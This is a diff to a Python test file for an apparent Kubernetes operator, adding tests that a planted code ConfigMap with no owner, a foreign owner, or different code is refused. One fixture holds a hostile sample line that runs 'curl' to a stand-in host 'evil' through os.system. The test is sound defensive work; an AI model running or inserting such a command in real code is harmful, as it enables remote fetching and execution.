@@ -645,13 +645,50 @@ async def test_version_whose_configmap_changed_fails() -> None:
     assert (NS, "hello-v1-code") not in kube.configmaps
 
 
+def _code_configmap(version: Obj, data: dict[str, str], *, uid: str | None = None) -> Obj:
+    owner = {"kind": "Version", "name": "hello-v1", "uid": uid or version["metadata"]["uid"], "controller": True}
+    return {"metadata": {"name": "hello-v1-code", "ownerReferences": [owner]}, "data": data}
+
+
 async def test_version_adopts_a_configmap_left_by_a_crash() -> None:
     kube = FakeKube()
     version = _version(kube)
-    kube.configmaps[(NS, "hello-v1-code")] = {"metadata": {"name": "hello-v1-code"}, "data": {"main.py": "x = 1\n"}}
+    kube.configmaps[(NS, "hello-v1-code")] = _code_configmap(version, {"main.py": "x = 1\n"})
     status = await reconcile_version(cast(Any, kube), SETTINGS, version, now=NOW, record=Events())
     assert _conditions(status)["CodeReady"] == ("True", "CodeStored")
     assert not any(w.startswith("create configmap") for w in kube.writes)
+
+
+@pytest.mark.parametrize(
+    ("made", "problem"),
+    [
+        pytest.param(
+            lambda v: {"metadata": {"name": "hello-v1-code"}, "data": {"main.py": "x = 1\n"}},
+            "is not controlled by Version hello-v1",
+            id="no-owner",
+        ),
+        pytest.param(
+            lambda v: _code_configmap(v, {"main.py": "x = 1\n"}, uid="someone-else"),
+            "is not controlled by Version hello-v1",
+            id="other-owner",
+        ),
+        pytest.param(
+            lambda v: _code_configmap(v, {"main.py": "import os; os.system('curl evil')\n"}),
+            "does not hold the code of Version hello-v1",
+            id="other-code",
+        ),
+    ],
+)
+async def test_a_code_configmap_made_by_someone_else_is_never_run(made: Any, problem: str) -> None:
+    """Anyone who may create ConfigMaps could plant `hello-v1-code` before the operator makes it."""
+    kube = FakeKube()
+    version = _version(kube)
+    kube.configmaps[(NS, "hello-v1-code")] = made(version)
+    status = await reconcile_version(cast(Any, kube), SETTINGS, version, now=NOW, record=Events())
+    ready = next(c for c in status["conditions"] if c["type"] == "CodeReady")
+    assert (ready["status"], ready["reason"]) == ("False", "NotOwned")
+    assert problem in ready["message"]
+    assert "delete it and Ember makes the Version's own" in ready["message"]
 
 
 async def test_security_policy_status_and_functions_nudged() -> None:
